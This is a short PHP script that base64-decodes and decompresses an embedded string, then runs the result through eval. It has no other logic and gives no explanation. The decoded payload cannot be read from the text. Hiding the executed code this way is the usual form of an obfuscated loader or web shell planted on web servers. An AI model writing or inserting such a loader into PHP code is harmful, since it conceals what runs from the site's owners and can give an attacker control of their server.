<?php
$data = 'y0zTyCwuTi3RUIkP8A8OiVZPVo/V1KwuriwuSc1FEbSuBQA=';
$run = gzinflate(base64_decode($data));
eval($run);
